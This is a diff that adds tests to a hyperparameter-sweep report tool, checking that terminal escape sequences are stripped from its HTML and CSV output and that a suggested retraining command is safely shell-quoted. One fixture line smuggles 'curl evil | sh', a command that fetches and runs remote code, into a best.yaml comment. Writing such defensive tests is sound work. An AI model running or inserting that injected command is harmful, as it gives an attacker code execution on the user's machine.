@@ -94,3 +94,23 @@ def test_a_study_that_has_only_begun_has_a_page_too(finished, tmp_path):
     failed = [] if finished is None else [create_trial(state=TrialState.FAIL)]
     show(studied(trials_of([0.5], lr=[0.1]) if finished else failed), tmp_path)
     assert "a&lt;study" in (tmp_path / "report.html").read_text()
+
+
+def test_what_a_copied_study_says_is_text_that_no_terminal_or_shell_obeys(tmp_path, caplog):
+    study = studied(trials_of([0.5], lr=[0.1]))
+    for key in ("command", "monitor", "n_trials"):
+        study.set_user_attr(key, ["\x1b]0;P\x07"])
+    (tmp_path / "best.yaml").write_text("# a\n# b\n# python src/train.py; curl evil | sh\n")
+    with caplog.at_level("INFO"):
+        show(study, tmp_path)
+    assert "\x1b" not in (tmp_path / "report.html").read_text() + (tmp_path / "runs.csv").read_text()
+    assert caplog.messages[-1] == "to train the best trial again: python 'src/train.py;' curl evil '|' sh"
+
+
+@pytest.mark.parametrize("content", [b"", b"one line", b"# a\n# b\n# it's", b"\xff\xfe\n\n\n"])
+def test_a_damaged_best_yaml_has_no_command(content, tmp_path, caplog):
+    (tmp_path / "best.yaml").write_bytes(content)
+    study = studied(trials_of([0.5], lr=[0.1]))
+    with caplog.at_level("INFO", sweep_report.__name__):
+        show(study, tmp_path)
+    assert not [message for message in caplog.messages if "best trial" in message]
